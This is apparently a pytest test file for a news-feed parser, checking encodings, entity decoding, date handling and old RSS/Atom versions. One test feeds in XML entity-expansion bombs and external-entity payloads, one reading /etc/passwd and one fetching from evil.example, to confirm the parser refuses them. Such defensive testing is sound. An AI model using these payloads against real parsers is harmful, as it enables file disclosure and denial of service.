"""News feeds through feedparser: any encoding, every version, entities and HTML in titles
decoded, and the protections against entity bombs and external entities kept."""

from __future__ import annotations

import pytest

from veille.posts import Post
from veille.sources import MalformedPayload, ParseProblem, parse_feed
from veille.sources.rss.client import iter_feed

RSS = """<?xml version="1.0" encoding="{encoding}"?>
<rss version="2.0"><channel><title>{title}</title><language>{lang}</language>
<item><title>{title}</title><link>https://example.org/a</link>
<description>&lt;p&gt;Bonjour &amp;amp; merci&lt;/p&gt;</description>
<pubDate>Mon, 02 Mar 2026 07:00:00 GMT</pubDate></item></channel></rss>"""


@pytest.mark.parametrize(
    ("encoding", "title", "lang"),
    [
        ("gb2312", "油漆工的新闻", "zh"),
        ("big5", "油漆工的新聞", "zh"),
        ("euc-kr", "페인트 뉴스", "ko"),
        ("utf-16", "Peintres d’Angers", "fr"),
        ("iso-8859-1", "Façades à Angers", "fr"),
    ],
)
def test_feeds_in_any_encoding(encoding: str, title: str, lang: str) -> None:
    document = RSS.format(encoding=encoding, title=title, lang=lang).encode(encoding)
    (post,) = parse_feed(document, feed_url="https://example.org/rss")
    assert (post.model_extra or {})["title"] == title
    assert post.text == f"{title}\n\nBonjour & merci" and post.lang == lang


def test_an_unknown_encoding_label_is_read_not_a_traceback() -> None:
    document = RSS.format(encoding="x-made-up", title="Peinture", lang="fr").encode()
    items = list(iter_feed(document, feed_url="https://example.org/rss"))
    assert [type(i) for i in items] == [Post]


def test_titles_unescaped_and_html_read_as_text() -> None:
    document = b"""<?xml version="1.0"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>Actu</title>
<entry><title type="html">L&amp;#8217;atelier &lt;b&gt;Martin&lt;/b&gt;</title>
<id>tag:example.org,2026:1</id><updated>2026-03-02T07:00:00Z</updated>
<summary>Plain &amp; simple</summary></entry></feed>"""
    (post,) = parse_feed(document, feed_url="https://example.org/atom")
    assert (post.model_extra or {})["title"] == "L\u2019atelier Martin"
    assert post.text == "L\u2019atelier Martin\n\nPlain & simple"


def test_dcterms_dates_atom_03_and_rss_090() -> None:
    dcterms = b"""<rss version="2.0" xmlns:dcterms="http://purl.org/dc/terms/"><channel>
<item><title>A</title><link>https://example.org/a</link>
<dcterms:modified>2026-03-02T07:00:00Z</dcterms:modified></item></channel></rss>"""
    (post,) = parse_feed(dcterms, feed_url="https://example.org/rss")
    assert post.created_at.isoformat() == "2026-03-02T07:00:00+00:00"
    atom03 = b"""<feed version="0.3" xmlns="http://purl.org/atom/ns#"><title>T</title>
<entry><title>B</title><link rel="alternate" href="https://example.org/b"/>
<issued>2026-03-01T10:00:00Z</issued><id>b</id></entry></feed>"""
    (post,) = parse_feed(atom03, feed_url="https://example.org/atom")
    assert post.urls == ["https://example.org/b"]
    rss090 = b"""<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"
xmlns="http://my.netscape.com/rdf/simple/0.9/"><channel><title>T</title></channel>
<item><title>C</title><link>https://example.org/c</link></item></rdf:RDF>"""
    (post,) = parse_feed(rss090, feed_url="https://example.org/rss")
    assert (post.model_extra or {})["date_from"] == "seen"  # undated: when first read


@pytest.mark.parametrize(
    "document",
    [
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>'
        b"<rss><channel><title>&b;</title></channel></rss>",
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b"<rss><channel><item><title>&x;</title></item></channel></rss>",
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]>'
        b"<rss><channel><item><title>t</title></item></channel></rss>",
        # the same bomb in UTF-16, and in a document that is not well-formed
        '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE r [<!ENTITY a "aaaa">'
        '<!ENTITY b "&a;&a;">]><rss><channel><title>&b;</title></channel></rss>'.encode("utf-16"),
        b'<!DOCTYPE r [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><rss><channel><title>&b;</rss',
    ],
)
def test_entity_bombs_and_external_entities_are_refused(document: bytes) -> None:
    (problem,) = list(iter_feed(document, feed_url="https://evil.example/rss"))
    assert isinstance(problem, ParseProblem) and "unsafe XML" in problem.reason
    with pytest.raises(MalformedPayload, match="unsafe XML"):
        parse_feed(document, feed_url="https://evil.example/rss")


def test_a_short_plain_entity_is_read() -> None:
    document = b"""<!DOCTYPE rss [
  <!ENTITY id "tag:example.com,">
]>
<rss version="2.0"><channel>
<item><title>T</title><guid isPermaLink="false">&id;2006-05-04:/blog/</guid></item>
</channel></rss>"""
    (post,) = parse_feed(document, feed_url="https://example.org/rss")
    assert post.id == "tag:example.com,2006-05-04:/blog/"
